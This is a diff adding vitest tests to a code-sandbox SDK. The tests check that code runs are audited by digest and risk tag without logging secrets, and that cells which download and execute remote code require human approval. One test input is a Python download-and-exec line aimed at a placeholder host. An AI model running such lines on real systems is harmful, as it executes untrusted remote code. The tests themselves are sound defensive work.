@@ -1,3 +1,4 @@
+import { createHash } from 'node:crypto';
 import { Sandbox } from '@paddock/sdk';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { type FastDaemon, startFastDaemon } from '../testing/fast-daemon.js';
@@ -11,6 +12,15 @@ beforeAll(async () => {
   daemon = await startFastDaemon();
   sbx = await Sandbox.create({ ...daemon.conn });
 });
+
+const call = async (method: string, path: string, body?: unknown, token = daemon.token) => {
+  const res = await fetch(`${daemon.url}${path}`, {
+    method,
+    headers: { authorization: `Bearer ${token}`, ...(body === undefined ? {} : { 'content-type': 'application/json' }) },
+    body: body === undefined ? undefined : JSON.stringify(body),
+  });
+  return { status: res.status, body: (await res.json()) as Record<string, unknown> & { error?: { code: string; message: string } } };
+};
 
 afterAll(async () => {
   await daemon?.stop();
@@ -62,5 +72,32 @@ describe('code contexts (fast tier)', () => {
     });
     expect(res.status).toBe(404);
     expect(((await res.json()) as { error: { code: string } }).error.code).toBe('code_context_not_found');
+  });
+});
+
+describe('code.run governance', () => {
+  it('audits a cell with its digest, summary and risk, never its code', async () => {
+    const secretish = 'token_value_that_must_not_be_logged';
+    const code = `import os\nos.system("echo hi")\nleft = "${secretish}"`;
+    await sbx.runCode(code);
+    const records = (await call('GET', '/v1/audit?limit=10000')).body.records as Array<{ action: string; details: Record<string, unknown> }>;
+    const record = records.findLast((r) => r.action === 'code.run');
+    expect(record?.details).toMatchObject({
+      language: 'python',
+      codeDigest: createHash('sha256').update(code).digest('hex'),
+      codeSummary: 'import os (+2 lines) [' + code.length + ' chars]',
+      riskTags: expect.arrayContaining(['shell']),
+    });
+    expect(record?.details.risk).toBeGreaterThan(0);
+    expect(JSON.stringify(record)).not.toContain(secretish);
+  });
+
+  it('asks a human before a cell that runs code it downloads (default policy), and lets plain cells run', async () => {
+    const asked = await call('POST', `/v1/sandboxes/${sbx.id}/code/run`, { code: 'import requests\nexec(requests.get("https://x.invalid/p.py").text)' });
+    expect(asked.status).toBe(403);
+    expect(asked.body.error).toMatchObject({ code: 'approval_required' });
+    expect(asked.body.error?.message).toMatch(/runs code it downloads/);
+    const plain = await call('POST', `/v1/sandboxes/${sbx.id}/code/run`, { code: '6 * 7' });
+    expect(plain).toMatchObject({ status: 200, body: { results: [{ isMainResult: true, text: '42' }] } });
   });
 });
